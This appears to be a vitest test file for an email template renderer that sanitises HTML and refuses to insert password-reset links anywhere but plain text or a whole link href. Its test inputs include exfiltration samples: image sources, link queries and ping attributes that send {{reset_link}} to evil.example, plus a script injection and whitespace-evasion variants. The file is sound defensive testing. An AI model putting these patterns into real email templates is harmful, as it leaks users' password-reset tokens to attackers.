import { describe, expect, it } from 'vitest';
import { misplacedSecretPlaceholders, renderTemplate, sanitizeTemplateBody } from './render.js';

describe('email template rendering', () => {
  // the sanitiser's worker thread starts here, compiling through tsx under vitest: 3.7 s of this
  // test's 4.2 in a CI run, near the default 5 s (as the pool's own tests, core/sanitise/pool.test.ts)
  it(
    'keeps a placeholder as a link address through the sanitiser, and drops scripts',
    { timeout: 30_000 },
    async () => {
      const body = await sanitizeTemplateBody(
        '<p onclick="x()">Hi {{first_name}} <a href="{{reset_link}}">reset</a></p><script>alert(1)</script>',
      );
      expect(body).toBe('<p>Hi {{first_name}} <a href="{{reset_link}}">reset</a></p>');
    },
  );

  it('escapes every value, leaves unknown placeholders, and writes the text part', () => {
    const message = renderTemplate(
      'a@example.com',
      {
        subject: 'Hello {{first_name}}\n',
        body: '<p>Hi {{first_name}}, {{other}}</p><p><a href="{{reset_link}}">Set password</a></p>',
      },
      { first_name: '<b>Ann</b> & co', reset_link: 'https://example.com/r/abc?x=1&y=2' },
    );
    expect(message.subject).toBe('Hello <b>Ann</b> & co');
    expect(message.html).toBe(
      '<p>Hi &#60;b&#62;Ann&#60;/b&#62; &#38; co, {{other}}</p><p><a href="https://example.com/r/abc?x=1&#38;y=2">Set password</a></p>',
    );
    expect(message.text).toBe(
      'Hi <b>Ann</b> & co, {{other}}\n\nSet password: https://example.com/r/abc?x=1&y=2\n',
    );
  });

  it('finds a password link anywhere but in text or as the whole href of a link', () => {
    expect(
      misplacedSecretPlaceholders(
        '<p>{{reset_link}} <a href="{{reset_link}}">{{ reset_link }}</a> <a href="https://x.example/">{{first_name}}</a></p>',
      ),
    ).toEqual([]);
    expect(
      misplacedSecretPlaceholders('<p><img src="https://evil.example/p.png?{{reset_link}}"></p>'),
    ).toEqual(['reset_link']);
    expect(
      misplacedSecretPlaceholders(
        '<a href="https://evil.example/?{{set_password_link}}">x</a><a title="{{reset_link}}" href="{{reset_link}}">y</a><span style="{{first_name}}">z</span>',
      ),
    ).toEqual(['set_password_link', 'reset_link']);
    expect(misplacedSecretPlaceholders('<img src="{{reset_link}}">')).toEqual(['reset_link']);
    expect(misplacedSecretPlaceholders('<style>{{any_token}}</style>')).toEqual(['any_token']);
  });

  it('fills a password link only in text and in a whole href, never into an image or a query', () => {
    const message = renderTemplate(
      'a@example.com',
      {
        subject: 'Reset',
        body: '<p><img src="https://evil.example/p.png?{{reset_link}}"><a href="https://evil.example/?n={{reset_link}}">{{first_name}}</a> <a href="{{reset_link}}">{{reset_link}}</a></p>',
      },
      { first_name: 'Ann', reset_link: 'https://admin.example.com/reset-password/SECRET' },
    );
    expect(message.html).toBe(
      '<p><img src="https://evil.example/p.png?{{reset_link}}"><a href="https://evil.example/?n={{reset_link}}">Ann</a> <a href="https://admin.example.com/reset-password/SECRET">https://admin.example.com/reset-password/SECRET</a></p>',
    );
  });

  it('never fills a password link into the subject, which mail logs and lock screens show', () => {
    const message = renderTemplate(
      'a@example.com',
      {
        subject: 'Reset {{reset_link}} for {{first_name}} {{ any_token }}',
        body: '<p><a href="{{reset_link}}">Reset</a></p>',
      },
      {
        first_name: 'Ann',
        any_token: 'T0KEN',
        reset_link: 'https://admin.example.com/reset-password/SECRET',
      },
    );
    expect(message.subject).toBe('Reset {{reset_link}} for Ann {{ any_token }}');
    expect(message.html).toContain('href="https://admin.example.com/reset-password/SECRET"');
  });

  it('takes as a whole href only a placeholder with HTML whitespace around it, never NBSP or U+2028', () => {
    for (const space of ['&nbsp;', '\u00a0', '\u2028', '\u3000']) {
      const body = `<p><a href="${space}{{reset_link}}">x</a></p>`;
      expect(misplacedSecretPlaceholders(body), space).toEqual(['reset_link']);
      const message = renderTemplate(
        'a@example.com',
        { subject: 'Reset', body },
        { reset_link: 'https://admin.example.com/reset-password/SECRET' },
      );
      expect(message.html, space).not.toContain('SECRET');
    }
    expect(misplacedSecretPlaceholders('<a href=" \t\n{{reset_link}}\r\f ">x</a>')).toEqual([]);
  });

  it("fills a link's href only when the link has no attribute beyond the sanitiser's (href, target, rel)", () => {
    const render = (body: string) =>
      renderTemplate(
        'a@example.com',
        { subject: 'Reset', body },
        { reset_link: 'https://admin.example.com/reset-password/SECRET' },
      ).html;
    for (const body of [
      '<a href="{{reset_link}}" ping="https://evil.example/">x</a>',
      '<a href="{{reset_link}}"/ping="https://evil.example/">x</a>',
      '<a href="{{reset_link}}" referrerpolicy="unsafe-url">x</a>',
    ]) {
      expect(render(body), body).not.toContain('SECRET');
    }
    expect(render('<a target="_blank" rel="noopener noreferrer" href="{{reset_link}}">x</a>')).toBe(
      '<a target="_blank" rel="noopener noreferrer" href="https://admin.example.com/reset-password/SECRET">x</a>',
    );
  });

  it('walks a body nested as deep as rich text allows without overflowing the stack', () => {
    const body = `${'<span>'.repeat(9000)}{{reset_link}}<img src="x?{{any_token}}">`;
    expect(misplacedSecretPlaceholders(body)).toEqual(['any_token']);
    const message = renderTemplate(
      'a@example.com',
      { subject: 'Reset', body },
      { reset_link: 'https://admin.example.com/reset-password/SECRET', any_token: 'T0KEN' },
    );
    expect(message.html).toContain('https://admin.example.com/reset-password/SECRET');
    expect(message.html).not.toContain('T0KEN');
  });
});
